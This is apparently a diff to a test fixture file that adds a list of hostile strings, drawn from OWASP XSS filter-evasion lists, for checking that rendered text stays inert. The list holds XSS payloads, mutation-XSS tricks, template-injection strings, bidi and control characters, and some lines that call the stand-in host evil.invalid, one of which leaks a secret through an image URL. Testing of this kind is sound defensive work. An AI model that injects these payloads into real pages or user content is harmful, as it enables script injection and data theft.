@@ -63,3 +63,38 @@ $$
 
 End of the hostile text.
 `
+
+/** Endings of whatever a text may stand in, and spellings of scripts and addresses (OWASP XSS filter evasion; the Big List of Naughty Strings). */
+export const hostileTexts = [
+  '</script><script>alert(1)</script>',
+  '<!--<script>',
+  '--><img src=x onerror=alert(1)>',
+  ']]><img src=x onerror=alert(1)>',
+  '</title><img src=x onerror=alert(1)>',
+  '</style><style>@import url(https://evil.invalid/a.css)</style>',
+  '</pre></article></main><iframe src=https://evil.invalid>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg onload=alert(1)>",
+  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
+  'javascript:alert(1)',
+  'line\u2028separator\u2029and\u0085next',
+  '\u202Egnp.exe \u2066isolate',
+  '\0nul\u0001\u001B[31m',
+  '\uD800 lone',
+  '[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x) [w](//evil.invalid)',
+  '[x](java&#x73;cript:alert(1)) [y](java&Tab;script:alert(1)) [z](\u0001javascript:alert(1))',
+  '<javascript:alert(1)> <data:text/html,x>',
+  '![x](https://evil.invalid/p.png?d=secret) ![y][r]\n\n[r]: https://evil.invalid/r.png',
+  '<a href="https://evil.invalid" ping="https://evil.invalid/ping">x</a>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<form action=https://evil.invalid><button formaction=javascript:alert(1)>x',
+  '<meta http-equiv=refresh content="0;url=https://evil.invalid">',
+  '<base href=https://evil.invalid/><link rel=stylesheet href=x>',
+  '```"><img src=x onerror=alert(1)>\nx',
+  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
+  '[^1]: <script>alert(1)</script>\n\nnote[^1]',
+  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
+  '%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;',
+]
